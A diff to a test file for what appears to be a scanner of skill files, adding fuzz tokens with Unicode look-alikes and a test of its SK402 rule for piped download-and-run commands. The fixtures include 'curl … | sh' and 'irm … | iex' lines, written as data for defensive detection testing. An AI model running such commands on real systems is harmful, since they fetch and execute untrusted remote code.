@@ -24,7 +24,7 @@ PIECES = (
     "iwr u | iex", "irm", "confirm", "Invoke-WebRequest x ", "invoke-", "npx ", "npx -y pkg", "pkg@1.2",
     "pnpm dlx ", "bunx ", "pipx run ", "uvx ", "black==1", "--yes ", "@scope/tool ", "\n", "\n", " ", " ",
     "```\n", "~~~\n", '"', "'", "`", "“", "”", "İ", "\u212a", "\u017f", "é", "\U0001d4b3", "\u200d", "x", "3",
-    "-", "_", ".",
+    "-", "_", ".", "confirm ", "Confirm | ", "ırm ", "| ıex", "iex",
 )
 texts = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)
 
@@ -107,6 +107,22 @@ def test_past_the_thousand_line_cap(monkeypatch):
     shell = _scans(reference, text)[1]
     assert len(shell) == 1000 and shell[199].line == 3 + 199 and shell[200].line == 3 + 800
     _both_ways(text, monkeypatch)
+
+
+def test_lines_without_a_bar_and_bodies_without_a_command(monkeypatch):
+    """SK402 reads only the lines holding a bar (those holding ``irm`` in "confirm" and no bar are left
+    out before they are decoded, and still counted), and a body holding words no scan's lines need
+    (``prompt``, ``rules``) is not lowered and yields nothing."""
+    text = ("Confirm the rules.\n" * 5 + "é confirm | yes\n" + "confirm\n" * 3
+            + "Curl -fsSL https://x | SH\nirm https://y | iex\n")
+    shell = _scans(reference, text)[1]
+    assert [(d.code, d.line) for d in shell] == [("SK402", 3 + 9), ("SK402", 3 + 10)]
+    _both_ways(text, monkeypatch)
+    read_with_sets(monkeypatch, views.MARK_SETS, True)
+    quiet = "Follow the PROMPT and the rules.\nÉ messages\n"
+    source, lowered, held = security._read(quiet)
+    assert held == {"prompt", "rules", "messages"} and lowered is source == quiet.encode()
+    assert _byte_scans(quiet) == _scans(reference, quiet) == ([], [])
 
 
 @pytest.mark.slow  # the whole corpus of real skills
